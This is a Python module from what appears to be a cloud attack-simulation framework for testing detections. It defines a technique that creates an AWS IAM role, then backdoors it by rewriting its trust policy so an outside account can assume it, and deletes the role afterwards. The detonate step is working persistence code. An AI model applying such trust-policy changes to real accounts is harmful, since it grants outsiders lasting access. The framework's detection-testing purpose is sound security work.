"""Backdoor an existing IAM role: rewrite its trust policy so an outside account may assume it."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.persistence._iam import OUTSIDE_ACCOUNT, delete_role, trust

ROLE = "ec2-inventory-collector"
EC2 = {"Service": "ec2.amazonaws.com"}


@technique
class IamBackdoorRole(Technique):
    title = "Backdoor an IAM role"
    attack = ("T1098.003",)
    expects = ("iam_role_trust_external_account",)
    description = (
        "Adds a statement to an existing role's trust policy that lets an AWS account outside the "
        "organization assume the role."
    )

    def warmup(self, ctx: Ctx) -> Json:
        client("iam", session=ctx.admin()).create_role(RoleName=ROLE, AssumeRolePolicyDocument=trust(EC2))
        return {"role": ROLE}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        doc = trust(EC2, {"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"})
        client("iam", session=ctx.attacker()).update_assume_role_policy(
            RoleName=state["role"], PolicyDocument=doc
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        delete_role(ctx, state["role"])
